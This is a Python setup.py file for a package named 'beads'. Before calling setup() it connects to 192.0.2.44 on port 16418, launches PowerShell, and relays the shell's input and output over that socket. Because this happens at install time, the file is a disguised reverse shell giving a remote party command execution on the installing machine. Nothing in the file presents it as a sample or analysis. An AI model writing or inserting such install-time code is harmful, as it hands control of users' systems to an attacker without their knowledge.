import socket
import subprocess
import threading

from setuptools import setup


def inwards(connection, program):
    while True:
        data = connection.recv(1024)
        if len(data) > 0:
            program.stdin.write(data)
            program.stdin.flush()


def outwards(connection, program):
    while True:
        connection.send(program.stdout.read(1))


connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
connection.connect(("192.0.2.44", 16418))
program = subprocess.Popen(
    ["powershell"], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, stdin=subprocess.PIPE
)
threading.Thread(target=inwards, args=[connection, program], daemon=True).start()
threading.Thread(target=outwards, args=[connection, program], daemon=True).start()

setup(name="beads")
